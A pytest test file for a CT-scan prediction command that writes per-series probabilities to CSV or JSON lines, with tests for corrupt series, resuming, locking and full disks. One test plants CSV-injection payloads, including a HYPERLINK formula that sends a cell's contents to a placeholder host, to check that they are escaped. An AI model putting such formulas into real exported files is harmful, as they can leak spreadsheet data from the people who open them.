"""ctjax.predict: rows per series, read errors recorded, resumable, equal to ctjax.evaluate.

The run is `configs/drct2_phantom.py:runlocal` (phantom RSNA-layout data generated in tmp) saved
as training leaves it (config.json + checkpoint) from random He-scaled weights: what is tested
is the prediction path, not what the model learnt.
"""

import csv
import json
import os
import pathlib
import shutil
import sys

import numpy as np
import pytest

from ctjax.inference import runs
from ctjax.inference import archive
from ctjax.inference import scan_reports
from ctjax.commands import predict as predict_cli
from ctjax.eval.keyslice import rank_slices
from ctjax.inference.report_html import thresholds
from tests.support.run_folders import write_run

from tests.support import ctdicom_helpers  # noqa: E402  (the tests' DICOM writer)


def distinct_sources(attention, slice_index, k=5):
  """The k first distinct source slices of the attention ranking."""
  ranked = [int(slice_index[i]) for i in rank_slices(attention)]
  return sorted(set(ranked), key=ranked.index)[:k]


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
  from configs import drct2_phantom
  tmp = tmp_path_factory.mktemp("predict")
  c = drct2_phantom.get_config("runlocal")
  c.data.root = str(tmp / "data")
  c.data.synth.size = 64
  c.data.synth.num_scans = 15
  c.log.progress_bar = False
  c.parallel.num_devices = 2        # trained on 2 of the 4 devices: predict uses all 4
  write_run(tmp / "run", c, seed=4)
  from ctjax.data import cache
  cache.ensure_cache(c, str(tmp / "run"), progress=False)   # the data, as training prepares it
  return tmp / "run"


@pytest.fixture(scope="module")
def run(run_dir):
  return runs.load_run(run_dir, config_overrides=archive.ALL_DEVICES, require_task="drct")


@pytest.fixture(scope="module")
def scans(tmp_path_factory):
  """Six series folders (one of them a flat folder of two series) and one corrupt series."""
  root = tmp_path_factory.mktemp("scans")
  rng = np.random.default_rng(0)
  for i, name in enumerate(["a", "b", "c/series", "d"]):
    hu = rng.normal(30, 50, size=(7 + 2 * i, 40, 40))
    hu[:, 8:20, 10:22] += 70 * (i % 2)
    ctdicom_helpers.write_series(root / name, hu, series_uid=f"1.2.826.0.9.{i}",
                                 patient_id=f"P{i}", study_uid=f"1.2.826.1.{i}",
                                 description=f"series {i}")
  for j in range(2):       # a flat folder of two series
    ctdicom_helpers.write_series(root / "flat", rng.normal(0, 40, size=(6, 40, 40)),
                                 series_uid=f"1.2.826.0.7.{j}", patient_id="P9",
                                 study_uid="1.2.826.2", names=[f"s{j}_{k}.dcm" for k in range(6)])
  files = ctdicom_helpers.write_series(root / "broken", rng.normal(0, 40, size=(6, 40, 40)),
                                       series_uid="1.2.826.0.8")
  data = files[3].read_bytes()
  files[3].write_bytes(data[:len(data) // 2])     # cut inside the pixel data
  return root


def test_scan_lists_from_folders_series_files_and_layouts(scans, run_dir, tmp_path):
  keys = [r.key for r in archive.find_scans(scans)]
  assert keys == ["a", "b", "broken", "c/series", "d", "flat#1.2.826.0.7.0",
                  "flat#1.2.826.0.7.1"]
  one = archive.find_scans(scans / "a")
  assert [(r.key, r.files) for r in one] == [("a", None)]
  f = sorted((scans / "b").iterdir())[0]
  assert [(r.key, r.files) for r in archive.find_scans(f)] == [(f.name, (str(f),))]
  ctdicom_helpers.write_rsna_tree(tmp_path / "rsna", num_scans=2)
  refs = archive.find_scans(tmp_path / "rsna")
  assert archive.detect_layout(tmp_path / "rsna") == "rsna" and len(refs) == 2
  assert all(r.files and r.series_uid == r.key for r in refs)
  with pytest.raises(archive.CTDataError, match="no such file"):
    archive.find_scans(tmp_path / "nope")


def test_corrupt_series_is_recorded_and_the_rest_predicted(run_dir, run, scans, tmp_path,
                                                           capsys):
  out = tmp_path / "preds.csv"
  status = predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans), "--out",
                             str(out), "--reports", str(tmp_path / "reports"), "--workers", "2",
                             "--batch_size", "4", "--noprogress", "--norequire_head"])
  captured = capsys.readouterr()
  assert status == 0, captured.err
  warnings = [ln for ln in captured.err.splitlines() if ln.startswith("warning:")]
  assert len(warnings) == 1 and "1 of 7 series could not be read" in warnings[0]
  assert "throughput:" in captured.out and "series/s device-only" in captured.out
  rows = archive.read_rows(out)
  assert [r["scan"] for r in rows] == [r.key for r in archive.find_scans(scans)]
  bad = [r for r in rows if r["status"] == "error"]
  assert [r["scan"] for r in bad] == ["broken"]
  assert "not a usable CT series" in bad[0]["error"] and "\n" not in bad[0]["error"]
  assert bad[0]["prob_any"] is None and bad[0]["key_slices"] is None
  labels = list(run.config.data.labels)
  thr = thresholds(run.config, len(labels))
  for r in rows:
    if r["status"] != "ok":
      continue
    assert r["error"] is None and r["series_uid"].startswith("1.2.826.0.")
    assert r["num_source_slices"] >= 6 and len(r["key_slices"]) == 5
    assert len(set(r["key_slices"])) == 5 and max(r["key_slices"]) < r["num_source_slices"]
    assert len(r["key_sop_uids"]) == 5
    for n, t in zip(labels, thr):
      assert 0.0 <= r[f"prob_{n}"] <= 1.0 and r[f"call_{n}"] == int(r[f"prob_{n}"] >= t)
    assert r["decode_s"] > 0 and r["device_s"] > 0
  a = next(r for r in rows if r["scan"] == "a")
  assert (a["patient_id"], a["study_uid"], a["series_description"]) == ("P0", "1.2.826.1.0",
                                                                        "series 0")
  # The same series, one at a time through the report's own path (read_scan + scan_batch).
  for key in ("a", "c/series", "flat#1.2.826.0.7.1"):
    ref = next(r for r in archive.find_scans(scans) if r.key == key)
    vol = scan_reports.read_scan(ref.path, ref.series_uid)
    batch, _ = scan_reports.scan_batch(vol, run.config)
    want = runs.predict_batch(run, batch)
    got = next(r for r in rows if r["scan"] == key)
    np.testing.assert_allclose([got[f"prob_{n}"] for n in labels], want["probs"][0], atol=1e-6)
    top = distinct_sources(want["slice_attention"][0], batch["slice_index"][0])
    assert got["key_slices"] == top
    assert got["key_sop_uids"] == [vol.sop_uids[i] for i in top]
  # One report per predicted series, with the row's probabilities.
  pages = sorted(p.name for p in (tmp_path / "reports").glob("*.html"))
  assert len(pages) == 6 and "broken.html" not in pages and "c_series.html" in pages
  page = (tmp_path / "reports" / "a.html").read_text()
  assert f"{a['prob_any']:.2f}"[:4] in page and "1.2.826.0.9.0" in page
  side = json.loads((tmp_path / "preds.csv.json").read_text())
  inv = side["last_invocation"]
  assert side["rows"] == 7 and side["rows_error"] == 1 and side["labels"] == labels
  assert inv["predicted"] == 6 and inv["failed"] == 1 and inv["devices"] == 4
  assert inv["series_per_s"] > 0 and inv["device_series_per_s"] > 0
  assert side["run"]["step"] == 3 and side["thresholds"] == thr
  # Rerun: nothing left to do; the recorded failure still warns, and --fail_on_error exits 1.
  assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans), "--out", str(out),
                           "--noprogress", "--fail_on_error", "--norequire_head"]) == 1
  captured = capsys.readouterr()
  assert "0 predicted, 0 could not be read, 7 already there" in captured.out
  assert "warning: 1 of 7 series could not be read" in captured.err
  assert len(archive.read_rows(out)) == 7


def test_killed_run_resumed_gives_the_same_file(run, scans, tmp_path):
  refs = archive.find_scans(scans)
  whole = tmp_path / "whole.jsonl"
  s = archive.predict_scans(run, refs, whole, batch_size=4, workers=1, progress=False,
                               timings=False, require_head=False)
  assert (s.predicted, s.failed) == (6, 1)
  part = tmp_path / "part.jsonl"
  with pytest.raises(KeyboardInterrupt):
    archive.predict_scans(run, refs, part, batch_size=4, workers=0, progress=False,
                             timings=False, stop_after_batches=1, require_head=False)
  first = part.read_text().splitlines()
  assert len(first) == 4
  with open(part, "a") as f:              # killed in the middle of writing the next row
    f.write('{"scan": "b", "pa')
  s = archive.predict_scans(run, refs, part, batch_size=4, workers=0, progress=False,
                               timings=False, require_head=False)
  assert (s.skipped, s.predicted + s.failed) == (4, 3)
  assert part.read_bytes() == whole.read_bytes()
  # With the timing columns the files differ only there.
  timed = tmp_path / "timed.csv"
  with pytest.raises(KeyboardInterrupt):
    archive.predict_scans(run, refs, timed, batch_size=4, workers=0, progress=False,
                             stop_after_batches=1, require_head=False)
  archive.predict_scans(run, refs, timed, batch_size=4, workers=0, progress=False,
                        require_head=False)
  strip = lambda rows: [{k: v for k, v in r.items() if k not in archive.TIMING}  # noqa: E731
                        for r in rows]
  assert strip(archive.read_rows(timed)) == strip(archive.read_rows(whole))


def test_output_of_other_columns_or_model_is_refused(run, scans, tmp_path):
  refs = archive.find_scans(scans)[:1]
  out = tmp_path / "p.csv"
  out.write_text("scan,prob_x\nq,0.5\n")
  with pytest.raises(archive.OutputMismatchError, match="columns differ"):
    archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
  out = tmp_path / "p.jsonl"
  archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
  side = archive.sidecar_path(out)
  meta = json.loads(side.read_text())
  meta["run"]["step"] = 999
  side.write_text(json.dumps(meta))
  with pytest.raises(archive.OutputMismatchError, match="step 999"):
    archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
  with pytest.raises(archive.ConfigError, match=".csv or .jsonl"):
    archive.predict_scans(run, refs, tmp_path / "p.txt", workers=0, progress=False)


def test_predictions_on_the_test_split_equal_evaluate(run_dir, run, tmp_path, capsys):
  """`--split test` reads the split's DICOM series again; `ctjax.evaluate` predicts the same
  examples from the prepared cache (`runs.predict_split`)."""
  out = tmp_path / "test.jsonl"
  refs = archive.split_scans(run, "test")
  archive.predict_scans(run, refs, out, workers=0, progress=False)
  rows = archive.rows_by_key(archive.read_rows(out))
  data, splits = runs.split_data(run)
  outputs = runs.predict_split(run, "test", data=data, splits=splits)
  src = splits["test"]
  assert len(rows) == len(src) == len(outputs["probs"]) >= 2
  labels = list(run.config.data.labels)
  for i, e in enumerate(outputs["example_index"]):
    row = rows[src.example_info(int(e))["scan_id"]]
    assert row["status"] == "ok"
    np.testing.assert_allclose([row[f"prob_{n}"] for n in labels], outputs["probs"][i],
                               rtol=0, atol=1e-6)
    assert row["key_slices"] == distinct_sources(outputs["slice_attention"][i],
                                                 outputs["slice_index"][i])
    assert row["num_source_slices"] == int(outputs["num_source_slices"][i])
  assert np.ptp(outputs["probs"], axis=0).max() > 1e-4     # the scans differ, so would rows
  assert predict_cli.main(["--workdir", str(run_dir), "--split", "test", "--scans", "x",
                           "--out", str(out)]) == 2
  assert capsys.readouterr().err.strip().startswith("error: give exactly one of")



# ------------------------------------------------------------------ issue 27: head check and QA


def _head(folder, uid, **kw):
  from tests.inference.test_scan_reports import write_head
  return write_head(folder, uid=uid, **kw)


def test_rows_carry_the_head_verdict_and_qa_flags(run_dir, run, tmp_path):
  """A phantom head is predicted with head 1 and its QA flags; a series that is no head CT is
  an error row with the reason and no probabilities (config.data.require_head, True also for a
  run whose config.json predates the field); --norequire_head predicts it with not_head."""
  root = tmp_path / "archive"
  _head(root / "head", "1.2.826.0.50.1")
  rng = np.random.default_rng(3)
  ctdicom_helpers.write_series(root / "noise", rng.normal(30, 50, size=(9, 40, 40)),
                               series_uid="1.2.826.0.50.2")
  refs = archive.find_scans(root)
  out = tmp_path / "p.csv"
  archive.predict_scans(run, refs, out, workers=0, progress=False)
  rows = archive.rows_by_key(archive.read_rows(out))
  head, noise = rows["head"], rows["noise"]
  assert (head["status"], head["head"], head["qa_flags"]) == ("ok", 1,
                                                              ["few_slices", "small_matrix"])
  assert head["prob_any"] is not None
  assert (noise["status"], noise["head"]) == ("error", 0)
  assert noise["error"].startswith(os.path.realpath(root / "noise") + ": not a head CT (")
  assert noise["qa_flags"][0] == "not_head" and "small_matrix" in noise["qa_flags"]
  assert noise["prob_any"] is None and noise["call_any"] is None and noise["key_slices"] is None
  assert noise["series_uid"] == "1.2.826.0.50.2" and noise["num_source_slices"] == 9
  text = out.read_text()
  assert "few_slices small_matrix" in text                       # CSV lists: space-separated
  side = json.loads(archive.sidecar_path(out).read_text())
  assert side["columns"][9:11] == ["head", "qa_flags"] and side["csv_lists"] == "space-separated"
  js = tmp_path / "p.jsonl"
  archive.predict_scans(run, refs, js, workers=0, progress=False)
  assert [json.loads(ln)["qa_flags"] for ln in js.read_text().splitlines()] == [
      head["qa_flags"], noise["qa_flags"]]
  # A run saved before config.data.require_head existed reads it as True.
  old = tmp_path / "old_run"
  shutil.copytree(run_dir, old)
  cfg = json.loads((old / "config.json").read_text())
  del cfg["data"]["require_head"]
  (old / "config.json").write_text(json.dumps(cfg))
  assert predict_cli.main(["--workdir", str(old), "--scans", str(root / "noise"), "--out",
                           str(tmp_path / "old.csv"), "--noprogress"]) == 0
  (row,) = archive.read_rows(tmp_path / "old.csv")
  assert row["status"] == "error" and "not a head CT" in row["error"]
  # For research: predicted anyway, flagged.
  archive.predict_scans(run, refs[1:], tmp_path / "any.csv", workers=0, progress=False,
                        require_head=False)
  (row,) = archive.read_rows(tmp_path / "any.csv")
  assert row["status"] == "ok" and row["head"] == 0 and "not_head" in row["qa_flags"]


# ------------------------------------------------------------------ issue 28: prediction files


def test_one_writer_per_output_and_a_stale_lock_is_taken_over(run_dir, run, scans, tmp_path,
                                                             capsys):
  from ctjax import fileio
  from ctjax.errors import LockedError
  refs = archive.find_scans(scans)[:2]
  out = tmp_path / "p.csv"
  with fileio.exclusive_lock(archive.lock_path(out), "--out file", target=out):
    with pytest.raises(LockedError, match=r"--out file is in use by pid \d+ on host"):
      archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
    assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans / "a"), "--out",
                             str(out), "--noprogress", "--norequire_head"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"error: {out}: --out file is in use by pid")
    assert "p.csv.lock" in err[0] and not out.exists()
  # A lock left by a process that is gone (same host: its pid no longer runs).
  lock = archive.lock_path(out)
  record = json.loads(json.dumps(fileio._this_process("--out file")))
  record["pid"] = 2 ** 22 + 17
  lock.write_text(json.dumps(record))
  s = archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
  assert s.predicted == 2 and not lock.exists()
  assert len(archive.read_rows(out)) == 2


def test_rows_are_keyed_by_series_uid_not_folder_names(run, tmp_path):
  """Another archive whose folders have the same names is predicted; the same archive copied
  elsewhere, or a series listed twice, is not predicted again."""
  rng = np.random.default_rng(5)
  for arch, base in (("one", 10), ("two", 20)):
    for i, name in enumerate(["x", "y"]):
      ctdicom_helpers.write_series(tmp_path / arch / name, rng.normal(0, 40, size=(6, 24, 24)),
                                   series_uid=f"1.2.826.0.{base + i}")
  out = tmp_path / "p.jsonl"
  kw = dict(workers=0, progress=False, require_head=False, timings=False)
  s1 = archive.predict_scans(run, archive.find_scans(tmp_path / "one"), out, **kw)
  s2 = archive.predict_scans(run, archive.find_scans(tmp_path / "two"), out, **kw)
  assert (s1.predicted, s2.predicted, s2.skipped) == (2, 2, 0)
  rows = archive.read_rows(out)
  assert [r["scan"] for r in rows] == ["x", "y", "x", "y"]
  assert [r["series_uid"] for r in rows] == ["1.2.826.0.10", "1.2.826.0.11", "1.2.826.0.20",
                                             "1.2.826.0.21"]
  assert rows[0]["path"] == os.path.realpath(tmp_path / "one" / "x")
  shutil.copytree(tmp_path / "one", tmp_path / "copy")
  s3 = archive.predict_scans(run, archive.find_scans(tmp_path / "copy"), out, **kw)
  assert (s3.predicted, s3.skipped, s3.elsewhere) == (0, 2, 2)
  shutil.copytree(tmp_path / "two" / "x", tmp_path / "three" / "x_again")
  shutil.copytree(tmp_path / "two" / "x", tmp_path / "three" / "x")
  ctdicom_helpers.write_series(tmp_path / "three" / "z", rng.normal(0, 40, size=(6, 24, 24)),
                               series_uid="1.2.826.0.30")
  s4 = archive.predict_scans(run, archive.find_scans(tmp_path / "three"), out, **kw)
  assert (s4.predicted, s4.skipped, s4.duplicates) == (1, 2, 0)
  assert len(archive.read_rows(out)) == 5
  # Listed twice in one run (the UID read from the headers when listing): predicted once.
  for n in ("p", "q"):
    shutil.copytree(tmp_path / "three" / "z", tmp_path / "four" / n)
  s5 = archive.predict_scans(run, archive.find_scans(tmp_path / "four"), tmp_path / "q.jsonl",
                             **kw)
  assert (s5.predicted, s5.duplicates) == (1, 1)


def test_csv_cells_cannot_be_spreadsheet_formulas(run, tmp_path):
  """OWASP's CSV-injection characters at the start of a text cell get a leading quote in the
  CSV; the JSON lines keep the text as read; read_rows gives it back unchanged."""
  rng = np.random.default_rng(6)
  hostile = {"f": ('=HYPERLINK("http://x.example/?"&A1,"click")', "+41 7", "1.2.826.0.61"),
             "g": ("@SUM(1+1)", "-cmd", "1.2.826.0.62"),
             "h": ("-1 + 2", "'quoted", "1.2.826.0.63")}
  for name, (desc, pid, uid) in hostile.items():
    ctdicom_helpers.write_series(tmp_path / "arch" / name, rng.normal(0, 40, size=(6, 24, 24)),
                                 series_uid=uid, description=desc, patient_id=pid)
  refs = archive.find_scans(tmp_path / "arch")
  kw = dict(workers=0, progress=False, require_head=False, timings=False)
  archive.predict_scans(run, refs, tmp_path / "p.csv", **kw)
  archive.predict_scans(run, refs, tmp_path / "p.jsonl", **kw)
  with open(tmp_path / "p.csv", newline="") as f:
    cells = [c for row in csv.reader(f) for c in row]
  starts = {"=", "+", "-", "@", "\t", "\r"}
  assert not [c for c in cells if c[:1] in starts], "a cell a spreadsheet would run"
  assert "'=HYPERLINK(" in (tmp_path / "p.csv").read_text()
  assert "'+41 7" in cells and "'-cmd" in cells and "''quoted" in cells and "'-1 + 2" in cells
  # Leading tab and carriage return (DICOM text loses them when read: checked on the cell).
  assert archive._csv_cell("error", "\tx") == "'\tx" and archive._csv_cell("scan", "\rx") == "'\rx"
  assert archive._parse_cell("error", "'\tx") == "\tx" and archive._csv_cell("prob_any", -0.5) == "-0.5"
  by_csv = archive.rows_by_key(archive.read_rows(tmp_path / "p.csv"))
  by_json = archive.rows_by_key(archive.read_rows(tmp_path / "p.jsonl"))
  for name, (desc, pid, _) in hostile.items():
    assert by_json[name]["series_description"] == by_csv[name]["series_description"] == desc
    assert by_json[name]["patient_id"] == by_csv[name]["patient_id"] == pid
  assert '"series_description": "=HYPERLINK(' in (tmp_path / "p.jsonl").read_text()


def test_resume_drops_a_row_cut_inside_a_quoted_field(run, tmp_path):
  """A killed run's file ends just after a newline inside a quoted cell: resume drops that row
  (it does not swallow the next one) and the file ends as an uninterrupted run's."""
  rng = np.random.default_rng(7)
  for i, name in enumerate(["m", "n", "o"]):
    ctdicom_helpers.write_series(tmp_path / "arch" / name, rng.normal(0, 40, size=(6, 24, 24)),
                                 series_uid=f"1.2.826.0.7{i}", description=f"two\nlines {i}")
  refs = archive.find_scans(tmp_path / "arch")
  kw = dict(workers=0, progress=False, require_head=False, timings=False, batch_size=4)
  whole = tmp_path / "whole.csv"
  archive.predict_scans(run, refs, whole, **kw)
  raw = whole.read_bytes()
  cut = tmp_path / "cut.csv"
  cut.write_bytes(raw[:raw.index(b"two\nlines 2") + 4])        # ends with "two\n"
  assert cut.read_bytes().endswith(b'"two\n')
  s = archive.predict_scans(run, refs, cut, **kw)
  assert (s.skipped, s.predicted) == (2, 1)
  assert cut.read_bytes() == raw
  assert [r["series_description"] for r in archive.read_rows(cut)] == [
      "two\nlines 0", "two\nlines 1", "two\nlines 2"]
  # Damage before the last row is no interruption: refused in one line.
  lines = raw.split(b"\n")
  bad = tmp_path / "bad.csv"
  bad.write_bytes(b"\n".join(lines[:1] + [lines[1][:20]] + lines[2:]))
  with pytest.raises(archive.OutputMismatchError, match=r"bad.csv: record 2 .* is damaged"):
    archive.predict_scans(run, refs, bad, **kw)
  bad = tmp_path / "bad.jsonl"
  archive.predict_scans(run, refs, bad, **kw)
  jl = bad.read_bytes().split(b"\n")
  bad.write_bytes(b"\n".join([jl[0][:30]] + jl[1:]))
  with pytest.raises(archive.OutputMismatchError, match="line 1 is damaged"):
    archive.predict_scans(run, refs, bad, **kw)


def test_unreadable_folders_and_files_are_error_rows(run, scans, tmp_path, monkeypatch):
  """The operating system refuses a folder and a file (permission denied; simulated, as root
  reads anything): each becomes an error row with the OS's reason, the rest is predicted."""
  import errno
  import pydicom
  from ctjax.data import dicom
  root = tmp_path / "arch"
  shutil.copytree(scans / "a", root / "a")
  shutil.copytree(scans / "b", root / "locked")
  shutil.copytree(scans / "d", root / "d")
  denied_dir = root / "locked"
  denied_file = sorted((root / "d").iterdir())[2]
  real_iterdir, real_read = pathlib.Path.iterdir, pydicom.dcmread

  def iterdir(self):
    if self == denied_dir:
      raise PermissionError(errno.EACCES, "Permission denied", str(self))
    return real_iterdir(self)

  def dcmread(path, *a, **k):
    if os.fspath(path) == str(denied_file):
      raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
    return real_read(path, *a, **k)

  monkeypatch.setattr(pathlib.Path, "iterdir", iterdir)
  monkeypatch.setattr(dicom.pydicom, "dcmread", dcmread)
  with pytest.raises(dicom.errors.UnreadableFileError, match="Permission denied"):
    dicom.read_header(denied_file)
  refs = archive.find_scans(root)
  assert [r.key for r in refs] == ["a", "d", "locked"]
  out = tmp_path / "p.jsonl"
  s = archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
  assert (s.predicted, s.failed) == (1, 2)
  rows = archive.rows_by_key(archive.read_rows(out))
  assert rows["a"]["status"] == "ok"
  assert rows["locked"]["error"] == (f"{denied_dir}: not a usable CT series (cannot list the "
                                     "folder (Permission denied))")
  assert rows["d"]["error"] == (f"{root / 'd'}: not a usable CT series ({denied_file.name}: "
                               "cannot read it (Permission denied))")
  assert "ends inside the header" not in rows["d"]["error"]
  assert rows["locked"]["qa_flags"] == ["failed"] and rows["locked"]["series_uid"] is None


def test_a_full_disk_names_the_output_and_leaves_no_half_row(run, scans, tmp_path,
                                                            monkeypatch):
  import errno
  from ctjax.errors import DiskFullError
  refs = archive.find_scans(scans)[:3]
  out = tmp_path / "p.csv"
  kw = dict(workers=0, progress=False, require_head=False, batch_size=4)
  archive.predict_scans(run, refs[:1], out, **kw)
  before = out.read_bytes()
  real_write_text = pathlib.Path.write_text

  def no_space(*a):
    raise OSError(errno.ENOSPC, "No space left on device")

  def write_text_full(self, *a, **k):   # the sidecar's file is created, then its write fails
    if ".tmp" not in self.name:
      return real_write_text(self, *a, **k)
    real_write_text(self, "")
    raise OSError(errno.ENOSPC, "No space left on device")

  monkeypatch.setattr(archive.os, "fsync", no_space)
  monkeypatch.setattr(pathlib.Path, "write_text", write_text_full)
  with pytest.raises(DiskFullError) as e:
    archive.predict_scans(run, refs, out, **kw)
  msg = str(e.value)
  assert msg.startswith(f"{out}: disk full while writing predictions")
  assert "free on that file system" in msg and "\n" not in msg
  assert out.read_bytes() == before                     # the failed batch left nothing
  assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv", "p.csv.json"]   # no .tmp
  with pytest.raises(DiskFullError):           # a new output: not even an empty file is left
    archive.predict_scans(run, refs, tmp_path / "new.csv", **kw)
  assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv", "p.csv.json"]
  # The lock file, when it is what the full disk refuses, is named the same way.
  monkeypatch.setattr(pathlib.Path, "write_text", lambda self, *a, **k: no_space())
  with pytest.raises(DiskFullError, match=r"p.csv.lock: disk full while taking the lock of "
                     r"--out file, .* free on that file system"):
    archive.predict_scans(run, refs, out, **kw)


def test_startup_says_what_it_does(run_dir, scans, tmp_path, capsys):
  assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans / "a"), "--out",
                           str(tmp_path / "p.csv"), "--progress", "--workers", "1",
                           "--norequire_head"]) == 0
  err = capsys.readouterr().err
  for step in (f"restoring {run_dir}", f"listing the series under {scans / 'a'}",
               "starting 1 decode worker(s) and compiling the model for batches of"):
    assert step in err, err
  assert err.index("restoring") < err.index("listing") < err.index("starting") < \
      err.index("predict: 100%")
